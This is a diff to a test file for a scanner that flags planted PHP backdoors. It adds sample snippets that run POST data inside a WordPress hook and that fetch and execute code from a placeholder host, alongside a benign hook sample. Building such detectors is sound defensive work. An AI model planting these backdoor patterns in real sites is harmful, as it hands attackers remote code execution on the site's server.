@@ -41,6 +41,16 @@ describe('what planted scripts do', () => {
       `filter_var(${POST}['a'], FILTER_CALLBACK, array('options' => 'assert'));`,
       'php.callback-to-code high',
     ],
+    [
+      'run in a function without a name that somebody else calls',
+      `add_action('init', function () { ${RUN}(${POST}['a']); });`,
+      'php.request-to-code critical',
+    ],
+    [
+      'run what another server sends, in a hook',
+      `$at = 'http://a.example.test/'; add_action('init', function () use ($at) { $r = wp_remote_get($at); ${RUN}(wp_remote_retrieve_body($r)); });`,
+      'php.remote-to-code critical',
+    ],
     ['make variables of the request', `extract(${POST}); $a($b);`, 'php.request-chooses-call critical'],
     [
       'store any upload',
@@ -106,6 +116,10 @@ describe('what honest scripts do', () => {
       `if (current_user_can('upload')) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);`,
     ],
     ['assert a fact', 'assert($a instanceof B);'],
+    [
+      'show in a hook what another server says',
+      `add_action('wp_footer', function () { echo wp_remote_retrieve_body(wp_remote_get('http://a.example.test/news')); });`,
+    ],
     ['unpack an icon', "header('Content-Type: image/gif'); echo base64_decode('R0lGODlhAQABAAAAACw=');"],
     [
       'let the visitor name a method of an object of theirs',
